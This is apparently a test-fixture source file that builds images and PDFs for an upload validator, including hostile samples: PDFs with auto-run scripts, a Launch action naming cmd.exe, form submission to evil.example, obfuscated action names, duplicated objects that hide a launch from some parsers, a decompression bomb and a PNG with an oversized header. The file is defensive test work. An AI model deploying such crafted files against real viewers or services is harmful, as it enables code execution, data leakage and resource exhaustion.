/** Files of people and of attackers, generated for each run. */
import { buffer } from 'node:stream/consumers';
import { deflateSync } from 'node:zlib';
import { PDFDict, PDFDocument, PDFName, PDFRawStream, PDFString } from '@cantoo/pdf-lib';
import PdfWriter from 'pdfkit';
import sharp from 'sharp';

/** A real HEIC of 160 × 100 pixels, half red; its camera is named SecretCamera. */
export const heic = (): Buffer => Buffer.from(heicBase64, 'base64');

const drawn = (width: number, height: number, colour = '#2266aa') =>
  sharp({ create: { width, height, channels: 3, background: colour } });

/** A photo with a phone's metadata: owner, location, and rotation. */
export const jpeg = (width = 320, height = 200): Promise<Buffer> =>
  drawn(width, height)
    .withExif({
      IFD0: { Make: 'SecretCamera', Copyright: 'Maria Secreta' },
      IFD3: { GPSLatitudeRef: 'S', GPSLatitude: '23/1 33/1 0/1' },
    })
    .withMetadata({ orientation: 6 })
    .jpeg()
    .toBuffer();
export const png = (): Promise<Buffer> => drawn(300, 200).png().toBuffer();

/** A PDF with this many pages. */
export async function pdf(pages = 1, options: PDFKit.PDFDocumentOptions = {}): Promise<Buffer> {
  const writer = new PdfWriter({ ...options, autoFirstPage: false });
  for (let page = 1; page <= pages; page++) writer.addPage().text(`Page ${page}`);
  writer.end();
  return buffer(writer);
}

async function changedPdf(change: (document: PDFDocument) => void, useObjectStreams = false): Promise<Buffer> {
  const document = await PDFDocument.load(await pdf(1), { updateMetadata: false });
  change(document);
  return Buffer.from(await document.save({ useObjectStreams }));
}
const action = ({ context }: PDFDocument, kind: string, more: Record<string, unknown> = {}) =>
  context.obj({ S: kind, ...more } as never);
const script = (document: PDFDocument) => action(document, 'JavaScript', { JS: PDFString.of('app.alert(1)') });

/** PDFs with active content, by its kind. Each is refused as `document.pdfActive`. */
export const activePdfs: Readonly<Record<string, () => Promise<Buffer>>> = {
  'a script when it opens': () =>
    changedPdf((document) => document.catalog.set(PDFName.of('OpenAction'), script(document))),
  'a script within a compressed object stream': () =>
    changedPdf((document) => {
      document.catalog.set(PDFName.of('OpenAction'), document.context.register(script(document)));
    }, true),
  'a script of the document': () => changedPdf((document) => document.addJavaScript('greet', 'app.alert(1)')),
  'a script when a page shows': () =>
    changedPdf((document) =>
      document.getPage(0).node.set(PDFName.of('AA'), document.context.obj({ O: script(document) } as never)),
    ),
  'a script that nothing points at': () => changedPdf((document) => void document.context.register(script(document))),
  'a name written in another way': async () =>
    Buffer.from(
      (await activePdfs['a script when it opens']!()).toString('latin1').replace('/JavaScript', '/Java#53cript'),
      'latin1',
    ),
  'a program that is started': () =>
    changedPdf((document) =>
      document.catalog.set(PDFName.of('OpenAction'), action(document, 'Launch', { F: PDFString.of('cmd.exe') })),
    ),
  'a form that sends itself': () =>
    changedPdf((document) =>
      document.catalog.set(
        PDFName.of('OpenAction'),
        action(document, 'SubmitForm', { F: PDFString.of('https://evil.example') }),
      ),
    ),
  'a form of XFA': () =>
    changedPdf((document) =>
      document.catalog.set(
        PDFName.of('AcroForm'),
        document.context.obj({ Fields: [], XFA: PDFString.of('<xdp/>') } as never),
      ),
    ),
  'a film on a page': () =>
    changedPdf((document) => {
      const note = document.context.obj({ Type: 'Annot', Subtype: 'RichMedia', Rect: [0, 0, 9, 9] } as never);
      document.getPage(0).node.set(PDFName.of('Annots'), document.context.obj([document.context.register(note)]));
    }),
};

/** PDFs with embedded files. Each is refused as `document.pdfEmbedded`. */
export const embeddingPdfs: Readonly<Record<string, () => Promise<Buffer>>> = {
  'a file in the catalogue': async () => {
    const document = await PDFDocument.load(await pdf(1), { updateMetadata: false });
    await document.attach(Buffer.from('MZ'), 'program.exe', { mimeType: 'application/octet-stream' });
    return Buffer.from(await document.save());
  },
  'a file clipped to a page': () =>
    changedPdf((document) => {
      const note = document.context.obj({ Type: 'Annot', Subtype: 'FileAttachment', Rect: [0, 0, 9, 9] } as never);
      document.getPage(0).node.set(PDFName.of('Annots'), document.context.obj([document.context.register(note)]));
    }),
  'a portfolio': () =>
    changedPdf((document) => document.catalog.set(PDFName.of('Collection'), PDFDict.withContext(document.context))),
};

/** PDFs that require a password, or are protected without one. Each is refused as `document.pdfProtected`. */
export const protectedPdfs: Readonly<Record<string, () => Promise<Buffer>>> = {
  'a password': () => pdf(1, { userPassword: 'secret', pdfVersion: '1.7' }),
  'a password of AES-256': () => pdf(1, { userPassword: 'secret', pdfVersion: '1.7ext3' }),
  'protection without a password': () =>
    pdf(1, { ownerPassword: 'secret', permissions: { printing: 'lowResolution' } }),
};

/** Files named as pictures or PDFs that are something else. Each is refused as `document.type`. */
export const otherFiles: Readonly<Record<string, Buffer>> = {
  'an SVG with a script': Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  'a page of HTML': Buffer.from('<!doctype html><script>alert(1)</script>'),
  'HTML before a PDF': Buffer.from('<html><!-- %PDF-1.7\n1 0 obj<</Type/Catalog>>endobj'),
  'an archive': Buffer.from('PK\u0003\u0004some.zip', 'latin1'),
  'a program': Buffer.from('MZ\u0090\u0000', 'latin1'),
  'a GIF': Buffer.from('GIF89a\u0001\u0000', 'latin1'),
  'a film of the HEIC family': Buffer.from('\u0000\u0000\u0000\u0018ftypisom0000', 'latin1'),
  nothing: Buffer.alloc(0),
};

/** Files that are truncated, or claim content that they do not have. */
export const damagedFiles: Readonly<Record<string, () => Promise<Buffer>>> = {
  'half a photo': async () => (await jpeg(900, 900)).subarray(0, 900),
  'half a PNG': async () => (await png()).subarray(0, 60),
  'half a HEIC': async () => heic().subarray(0, 500),
  'a HEIC of nothing': async () => Buffer.from('\u0000\u0000\u0000\u0018ftypheic0000', 'latin1'),
  'a PDF of nothing': async () => Buffer.from('%PDF-1.7\nnothing'),
};

/** A PNG whose head claims 40,000 × 40,000 pixels: decoding it would take six gigabytes. */
export async function claimingPng(): Promise<Buffer> {
  const bytes = Buffer.from(await png());
  bytes.writeUInt32BE(40_000, 16);
  bytes.writeUInt32BE(40_000, 20);
  return bytes;
}

const heicBase64 =
  'AAAAHGZ0eXBoZWljAAAAAG1pZjFoZWljbWlhZgAAAYFtZXRhAAAAAAAAACFoZGxyAAAAAAAAAABwaWN0AAAAAAAAAAAAAAAAAAAAAA5waXRtAA' +
  'AAAAABAAAANGlsb2MAAAAAREAAAgABAAAAAAGlAAEAAAAAAAABOAACAAAAAALdAAEAAAAAAAAA0gAAADhpaW5mAAAAAAACAAAAFWluZmUCAAAA' +
  'AAEAAGh2YzEAAAAAFWluZmUCAAABAAIAAEV4aWYAAAAAwGlwcnAAAACiaXBjbwAAAHZodmNDAQNwAAAAAAAAAAAAHvAA/P34+AAADwMgAAEAGE' +
  'ABDAH//wNwAAADAJAAAAMAAAMAHroCQCEAAQApQgEBA3AAAAMAkAAAAwAAAwAeoBQgafeW6kkprmwIAAADAAgAAAMACEAiAAEAB0QBwXKwYkAA' +
  'AAAUaXNwZQAAAAAAAACgAAAAZAAAABBwaXhpAAAAAAMICAgAAAAWaXBtYQAAAAAAAAABAAEDgQKDAAAAGmlyZWYAAAAAAAAADmNkc2MAAgABAA' +
  'EAAAISbWRhdAAAATQoAa8J0ItYITl1X//9/Nf//xiNyH8HFZ0HMPGAVxH04xx/aR5lfpiagDA1czmSj2mSBTcaKRPl8WXga8WuUL6dXrBFj1Ky' +
  '+FUPTPzHVYFAJuADB70yOBl0G3IvBzufZ4esMGPSD/7ZKYvbfSs4qdovWjDMeRMLqxe4/catE7GCzB73eEAdW7fq0Upj6ThDbbeW2QfKiN8KW5' +
  'eSUvUmEaJcre7OAzMeM2VZ46fTyy/Ta5jLsvE5ppsuyWFCAW+wB2AAAAMAAAMDKjeRdOq2SQx19I/jcgq4IRXPgWYLVqs7EdR7ArsUld+itloW' +
  '0uCS22pBZrKNz6GPienoLz4AErv9WxQgZVWydXbjjY78EcOn8F+o/tYLCJSwUL/AoYMF8EDbLz57zFTzmGbrxRvnKgAA5QAKGAAAAABJSSoACA' +
  'AAAAcADwECAA0AAAByAAAAEgEDAAEAAAABAAAAGgEFAAEAAABiAAAAGwEFAAEAAABqAAAAKAEDAAEAAAACAAAAEwIDAAEAAAABAAAAaYcEAAEA' +
  'AACAAAAAAAAAADhjAADoAwAAOGMAAOgDAABTZWNyZXRDYW1lcmEAAAYAAJAHAAQAAAAwMjEwAZEHAAQAAAABAgMAAKAHAAQAAAAwMTAwAaADAA' +
  'EAAAD//wAAAqAEAAEAAACgAAAAA6AEAAEAAABkAAAAAAAAAA==';

/** A PDF whose object 4 is defined twice: viewers read the copy that the cross-reference table names. */
async function twicePdf(hidden: string, isHiddenFirst: boolean): Promise<Buffer> {
  const text = (await pdf(1)).toString('latin1');
  const at = text.indexOf('4 0 obj');
  const copy = `4 0 obj\n${hidden}\nendobj\n`;
  const end = text.indexOf('endobj', at) + 'endobj\n'.length;
  const place = isHiddenFirst ? at : end;
  return Buffer.from(text.slice(0, place) + copy + text.slice(place), 'latin1');
}

/** A content stream that expands to this many bytes. */
async function bombPdf(bytes: number): Promise<Buffer> {
  const document = await PDFDocument.load(await pdf(1), { updateMetadata: false });
  const { context } = document;
  const stream = PDFRawStream.of(context.obj({ Filter: 'FlateDecode' }), deflateSync(Buffer.alloc(bytes, ' ')));
  document.getPage(0).node.set(PDFName.of('Contents'), context.register(stream));
  return Buffer.from(await document.save({ useObjectStreams: false }));
}

/** A page behind this many levels of the tree, written by hand. */
async function deepPdf(levels: number): Promise<Buffer> {
  const tree = Array.from({ length: levels }, (_, level) => `<< /Type /Pages /Count 1 /Kids [${level + 3} 0 R] >>`);
  const objects = ['<< /Type /Catalog /Pages 2 0 R >>', ...tree, '<< /Type /Page /MediaBox [0 0 9 9] >>'];
  let text = '%PDF-1.4\n';
  const places = objects.map((object, index) => {
    const place = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(place).padStart(10, '0')} 00000 n \n`;
  });
  const size = objects.length + 1;
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${places.join('')}`;
  return Buffer.from(
    `${text}${table}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`,
    'latin1',
  );
}

/** PDFs that one program reads differently from another, or that grow, each with its refusal. */
export const deceivingPdfs: Readonly<Record<string, readonly [make: () => Promise<Buffer>, key: string]>> = {
  'a launch in the copy of an object that only viewers read': [
    () => twicePdf('<< /S /Launch /F (cmd.exe) >>', true),
    'document.pdfActive',
  ],
  'a form that is sent, in the second copy': [
    () => twicePdf('<< /S /Submit#46orm /F (http://evil.example) >>', false),
    'document.pdfActive',
  ],
  'two copies of one object': [() => twicePdf('<< /Type /Font >>', true), 'document.pdfAmbiguous'],
  'a jump into another file': [
    () => changedPdf((document) => document.catalog.set(PDFName.of('OpenAction'), action(document, 'GoToR'))),
    'document.pdfActive',
  ],
  'a web page behind its end': [
    async () => Buffer.concat([await pdf(1), Buffer.from('<script>alert(1)</script>')]),
    'document.pdfAmbiguous',
  ],
  'a ZIP behind its end': [
    async () => Buffer.concat([await pdf(1), Buffer.from('PK\u0003\u0004')]),
    'document.pdfAmbiguous',
  ],
  'content that expands to 300 MB': [() => bombPdf(300 * 1024 * 1024), 'document.tooLarge'],
  'pages behind four hundred levels': [() => deepPdf(400), 'document.damaged'],
};

/** PDFs of programs in use that a strict reading must not refuse. */
export const unusualPdfs: Readonly<Record<string, () => Promise<Buffer>>> = {
  'a change appended with a table of its own': async () => {
    const text = (await pdf(1)).toString('latin1');
    const start = Number(/startxref\n(\d+)/.exec(text)![1]);
    const changed = `1 0 obj\n${/\b1 0 obj\n([\s\S]*?)\nendobj/.exec(text)?.[1] ?? '<< >>'}\nendobj\n`;
    const at = text.length;
    const table = `xref\n1 1\n${String(at).padStart(10, '0')} 00000 n \n`;
    const root = /\/Root (\d+ 0 R)/.exec(text)![1];
    const size = /\/Size (\d+)/.exec(text)![1];
    return Buffer.from(
      `${text}${changed}${table}trailer\n<< /Size ${size} /Root ${root} /Prev ${start} >>\nstartxref\n${at + changed.length}\n%%EOF\n`,
      'latin1',
    );
  },
  'zeros and line ends behind its end': async () => Buffer.concat([await pdf(1), Buffer.from('\r\n\0\0\0')]),
  'object streams': () => changedPdf(() => {}, true),
  'a tree of four levels': () => deepPdf(4),
};
